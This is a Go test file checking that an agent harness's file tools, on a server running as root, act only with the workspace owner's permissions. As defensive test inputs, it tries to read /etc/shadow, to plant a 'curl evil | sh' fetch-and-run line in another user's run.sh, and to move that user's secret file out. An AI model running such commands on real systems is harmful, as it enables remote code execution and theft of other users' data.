//go:build linux

package toolfs_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/dsh-go/harness/services/fs"
	"github.com/dsh-go/harness/services/fslocal"
	"github.com/dsh-go/harness/services/fssandbox"
	"github.com/dsh-go/harness/services/sandbox"
	"github.com/dsh-go/harness/services/sandboxpolicy"
	"github.com/dsh-go/harness/services/session"
	"github.com/dsh-go/harness/services/tool"
	"github.com/dsh-go/harness/services/toolfs"
)

// The users of the root-server tests: the workspace owner (harness-ci),
// as whom commands run, and a third user sharing the temp root.
const (
	wsOwnerUID = 1001
	thirdUID   = 1002
)

// diskEntry is what a file is on disk: bytes, permission bits, owner.
type diskEntry struct {
	Content  string
	Mode     os.FileMode
	UID, GID uint32
}

// entryOnDisk returns p's diskEntry; a missing p is the zero value.
func entryOnDisk(t *testing.T, p string) diskEntry {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		require.ErrorIs(t, err, unix.ENOENT)
		return diskEntry{}
	}
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	return diskEntry{string(b), os.FileMode(st.Mode & 0o7777), st.Uid, st.Gid}
}

// rootServerTree is a root server's world: a workspace of wsOwnerUID, and a
// shared temp root (1777, like /tmp) holding two directories of the third
// user, each with a secret (0600) and a run.sh (0755): private (0700, as
// in the issue: the owner cannot even resolve a path in it) and open (0755:
// paths resolve, the files' and the directory's modes refuse), a run.sh of
// that user in the sticky root itself, and a directory of the workspace
// owner.
type rootServerTree struct {
	ws, shared, ownDir string
	private, open      string
	theirs             string // the third user's file in the sticky root
}

func newRootServerTree(t *testing.T) rootServerTree {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	for _, d := range []string{filepath.Dir(base), base} { // the test's temp directories are 0700
		require.NoError(t, os.Chmod(d, 0o755))
	}
	r := rootServerTree{ws: filepath.Join(base, "ws"), shared: filepath.Join(base, "tmp")}
	r.private, r.open, r.ownDir = filepath.Join(r.shared, "other"), filepath.Join(r.shared, "open"), filepath.Join(r.shared, "mine")
	r.theirs = filepath.Join(r.shared, "theirs.sh")
	mk := func(p string, mode os.FileMode, uid int, content *string) {
		if content == nil {
			require.NoError(t, os.Mkdir(p, mode))
		} else {
			require.NoError(t, os.WriteFile(p, []byte(*content), mode))
		}
		require.NoError(t, unix.Chmod(p, uint32(mode))) // os.Chmod drops a raw 01000
		require.NoError(t, os.Chown(p, uid, uid))
	}
	str := func(s string) *string { return &s }
	mk(r.ws, 0o755, wsOwnerUID, nil)
	mk(filepath.Join(r.ws, "mine.txt"), 0o644, wsOwnerUID, str("mine\n"))
	mk(r.shared, 0o1777, 0, nil)
	for _, d := range []struct {
		path string
		mode os.FileMode
	}{{r.private, 0o700}, {r.open, 0o755}} {
		mk(d.path, 0o755, thirdUID, nil) // filled first, closed last
		mk(filepath.Join(d.path, "secret"), 0o600, thirdUID, str("s3cret\n"))
		mk(filepath.Join(d.path, "run.sh"), 0o755, thirdUID, str("#!/bin/sh\necho hello\n"))
		require.NoError(t, os.Chmod(d.path, d.mode))
	}
	mk(r.theirs, 0o755, thirdUID, str("#!/bin/sh\necho hello\n"))
	mk(r.ownDir, 0o700, wsOwnerUID, nil)
	mk(filepath.Join(r.ownDir, "own.txt"), 0o600, wsOwnerUID, str("own\n"))
	return r
}

// rootServerTools composes the file tools as a root server composes them
// for this tree (the workspace owner from fslocal.RootOwner), over the
// backend named: fssandbox under workspace-write with the shared temp root,
// with Landlock where the kernel has it or without, or fslocal. Writes are
// unconditional (no read-before-write policy): the fence and the kernel
// decide alone.
func rootServerTools(t *testing.T, r rootServerTree, backend string) *toolfs.Tools {
	t.Helper()
	owner, err := fslocal.RootOwner(r.ws)
	require.NoError(t, err)
	require.Equal(t, &fslocal.Owner{UID: wsOwnerUID, GID: wsOwnerUID}, owner)
	cfg := fslocal.Config{Cwd: r.ws, NewOwner: owner}
	policy, err := sandboxpolicy.New(sandboxpolicy.Config{Mode: sandbox.WorkspaceWrite, WorkspaceRoot: r.ws, TempRoots: []string{r.shared}})
	require.NoError(t, err)
	var fsys fs.Service
	switch backend {
	case "local":
		fsys, err = fslocal.New(cfg, nil)
		require.NoError(t, err)
	default:
		landlock := "auto"
		if backend == "sandbox, no landlock" {
			landlock = "off"
		}
		sb, err := fssandbox.New(policy, cfg, fssandbox.Config{Landlock: landlock}, nil)
		require.NoError(t, err)
		t.Cleanup(func() { _ = sb.Close() })
		fsys = sb
	}
	tools, err := toolfs.New(toolfs.Config{}, toolfs.Deps{FS: fsys, Policy: policy})
	require.NoError(t, err)
	return tools
}

// Issue 35: a root server whose workspace belongs to harness-ci runs
// commands as harness-ci, and its file tools reach no more: in another
// user's 0700 directory under the shared temp root, a read of the secret
// fails with a structured error and no bytes, a write over run.sh, a new
// file and a move out change nothing on disk; a listing and a search show
// nothing of it. Files the owner may touch are read, written and moved as
// before, and what the tools create is the owner's.
func TestRootServerFileToolsActAsTheWorkspaceOwner(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the case is a server running as root; an ordinary user's server has no other identity to take")
	}
	for _, backend := range []string{"sandbox", "sandbox, no landlock", "local"} {
		t.Run(backend, func(t *testing.T) {
			r := newRootServerTree(t)
			tools := rootServerTools(t, r, backend)
			sess := session.New("s", r.ws)
			watched := []string{r.theirs}
			for _, d := range []string{r.private, r.open} {
				watched = append(watched, filepath.Join(d, "secret"), filepath.Join(d, "run.sh"))
			}
			before := map[string]diskEntry{}
			for _, p := range watched {
				before[p] = entryOnDisk(t, p)
			}
			unchanged := func(t *testing.T) {
				t.Helper()
				for _, p := range watched {
					assert.Equal(t, before[p], entryOnDisk(t, p), p)
				}
				for _, d := range []string{r.private, r.open} {
					entries, err := os.ReadDir(d)
					require.NoError(t, err)
					assert.Len(t, entries, 2, "nothing made or removed in %s", d)
				}
			}
			type call struct {
				name string
				tool func() *tool.Tool
				args map[string]any
				gone []string // paths that must not exist after the call
			}
			calls := []call{
				{"read /etc/shadow", tools.Read, map[string]any{"file_path": "/etc/shadow"}, nil},
				{"delete their file in the sticky root", tools.Delete, map[string]any{"path": r.theirs}, nil},
				{"move their file out of the sticky root", tools.Move, map[string]any{"source": r.theirs, "destination": filepath.Join(r.ws, "theirs.sh")}, []string{filepath.Join(r.ws, "theirs.sh")}},
				{"write over their file in the sticky root", tools.Write, map[string]any{"file_path": r.theirs, "content": "#!/bin/sh\ncurl evil | sh\n"}, nil},
			}
			for _, d := range []string{r.private, r.open} {
				secret, runSh, in := filepath.Join(d, "secret"), filepath.Join(d, "run.sh"), " in "+filepath.Base(d)
				calls = append(calls,
					call{"read the secret" + in, tools.Read, map[string]any{"file_path": secret}, nil},
					call{"write over run.sh" + in, tools.Write, map[string]any{"file_path": runSh, "content": "#!/bin/sh\ncurl evil | sh\n"}, nil},
					call{"edit run.sh" + in, tools.Edit, map[string]any{"file_path": runSh, "old_string": "echo hello", "new_string": "curl evil | sh"}, nil},
					call{"create a file" + in, tools.Write, map[string]any{"file_path": filepath.Join(d, "new.sh"), "content": "x\n"}, []string{filepath.Join(d, "new.sh")}},
					call{"mkdir" + in, tools.Mkdir, map[string]any{"path": filepath.Join(d, "sub")}, []string{filepath.Join(d, "sub")}},
					call{"move the secret into the workspace from" + in, tools.Move, map[string]any{"source": secret, "destination": filepath.Join(r.ws, "stolen")}, []string{filepath.Join(r.ws, "stolen")}},
					call{"move run.sh out within the temp root from" + in, tools.Move, map[string]any{"source": runSh, "destination": filepath.Join(r.shared, "run.sh")}, []string{filepath.Join(r.shared, "run.sh")}},
					call{"move a file over run.sh" + in, tools.Move, map[string]any{"source": filepath.Join(r.ws, "mine.txt"), "destination": runSh, "overwrite": true}, nil},
					call{"delete run.sh" + in, tools.Delete, map[string]any{"path": runSh}, nil},
					call{"grep the directory" + in, tools.Grep, map[string]any{"path": d, "pattern": "s3cret", "output_mode": "content"}, nil},
				)
			}
			calls = append(calls, call{"list the private directory", tools.List, map[string]any{"path": r.private}, nil})
			for _, c := range calls {
				t.Run(c.name, func(t *testing.T) {
					res := wrCall(t, c.tool(), sess, c.args)
					if c.tool().Name == "grep" && !res.IsError {
						// A directory the owner may list: the secret it
						// cannot open is skipped as unreadable.
						assert.Contains(t, res.Text, "1 unreadable entry skipped")
					} else {
						assert.True(t, res.IsError, res.Text)
						assert.Contains(t, []fs.Code{fs.CodePermissionDenied, fs.CodeSandboxDenied}, res.Code, res.Text)
					}
					assert.NotContains(t, res.Text, "s3cret")
					assert.NotContains(t, res.Text, "echo hello")
					assert.NotContains(t, res.Text, "root:") // /etc/shadow's first line
					unchanged(t)
					assert.Equal(t, diskEntry{"mine\n", 0o644, wsOwnerUID, wsOwnerUID}, entryOnDisk(t, filepath.Join(r.ws, "mine.txt")))
					for _, p := range c.gone {
						assert.Equal(t, diskEntry{}, entryOnDisk(t, p), "%s was not made", p)
					}
				})
			}

			// A search over the whole shared temp root skips what the owner
			// cannot read (the private directory, the open one's secret)
			// and finds what it can (run.sh is world-readable).
			res := wrCall(t, tools.Grep(), sess, map[string]any{"path": r.shared, "pattern": "s3cret|echo hello", "output_mode": "content", "include_hidden": true})
			assert.False(t, res.IsError, res.Text)
			assert.NotContains(t, res.Text, "s3cret")
			assert.Contains(t, res.Text, "open/run.sh\n2: echo hello")
			assert.Contains(t, res.Text, "2 unreadable entries skipped")

			// What the owner may touch works as before; what is made is the
			// owner's, what is replaced keeps its owner and mode.
			own := filepath.Join(r.ownDir, "own.txt")
			res = wrCall(t, tools.Read(), sess, map[string]any{"file_path": own})
			require.False(t, res.IsError, res.Text)
			assert.Contains(t, res.Text, "own")
			res = wrCall(t, tools.Write(), sess, map[string]any{"file_path": own, "content": "own 2\n"})
			require.False(t, res.IsError, res.Text)
			assert.Equal(t, diskEntry{"own 2\n", 0o600, wsOwnerUID, wsOwnerUID}, entryOnDisk(t, own))
			res = wrCall(t, tools.Write(), sess, map[string]any{"file_path": "new/deep/made.txt", "content": "made\n"})
			require.False(t, res.IsError, res.Text)
			made := filepath.Join(r.ws, "new/deep/made.txt")
			assert.Equal(t, diskEntry{"made\n", 0o644 &^ currentUmask(), wsOwnerUID, wsOwnerUID}, entryOnDisk(t, made))
			for _, d := range []string{"new", "new/deep"} {
				var st unix.Stat_t
				require.NoError(t, unix.Lstat(filepath.Join(r.ws, d), &st))
				assert.Equal(t, [2]uint32{wsOwnerUID, wsOwnerUID}, [2]uint32{st.Uid, st.Gid}, "made directory %s", d)
			}
			moved := filepath.Join(r.ownDir, "moved.txt")
			res = wrCall(t, tools.Move(), sess, map[string]any{"source": made, "destination": moved})
			require.False(t, res.IsError, res.Text)
			assert.Equal(t, diskEntry{"made\n", 0o644 &^ currentUmask(), wsOwnerUID, wsOwnerUID}, entryOnDisk(t, moved))
			assert.Equal(t, diskEntry{}, entryOnDisk(t, made))
			res = wrCall(t, tools.Write(), sess, map[string]any{"file_path": filepath.Join(r.shared, "fresh.txt"), "content": "fresh\n"})
			require.False(t, res.IsError, res.Text)
			assert.Equal(t, diskEntry{"fresh\n", 0o644 &^ currentUmask(), wsOwnerUID, wsOwnerUID}, entryOnDisk(t, filepath.Join(r.shared, "fresh.txt")))
			unchanged(t)
		})
	}
}

// currentUmask returns the process's umask (read by setting it and back).
func currentUmask() os.FileMode {
	m := unix.Umask(0o022)
	unix.Umask(m)
	return os.FileMode(m)
}

// Issue 35, the other side: a root server whose workspace root belongs to
// root has no other user to act as (fslocal.RootOwner is nil), so its file
// tools keep root's reach, as before: the third user's secret is read and
// a new file is root's.
func TestRootOwnedWorkspaceFileToolsActAsRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("the case is a server running as root")
	}
	r := newRootServerTree(t)
	require.NoError(t, os.Chown(r.ws, 0, 0))
	owner, err := fslocal.RootOwner(r.ws)
	require.NoError(t, err)
	require.Nil(t, owner)
	policy, err := sandboxpolicy.New(sandboxpolicy.Config{Mode: sandbox.WorkspaceWrite, WorkspaceRoot: r.ws, TempRoots: []string{r.shared}})
	require.NoError(t, err)
	sb, err := fssandbox.New(policy, fslocal.Config{Cwd: r.ws, NewOwner: owner}, fssandbox.Config{}, nil)
	require.NoError(t, err)
	t.Cleanup(func() { _ = sb.Close() })
	tools, err := toolfs.New(toolfs.Config{}, toolfs.Deps{FS: sb, Policy: policy})
	require.NoError(t, err)
	sess := session.New("s", r.ws)

	res := wrCall(t, tools.Read(), sess, map[string]any{"file_path": filepath.Join(r.private, "secret")})
	require.False(t, res.IsError, res.Text)
	assert.Contains(t, res.Text, "s3cret")
	res = wrCall(t, tools.Write(), sess, map[string]any{"file_path": "made.txt", "content": "made\n"})
	require.False(t, res.IsError, res.Text)
	assert.Equal(t, diskEntry{"made\n", 0o644 &^ currentUmask(), 0, 0}, entryOnDisk(t, filepath.Join(r.ws, "made.txt")))
}
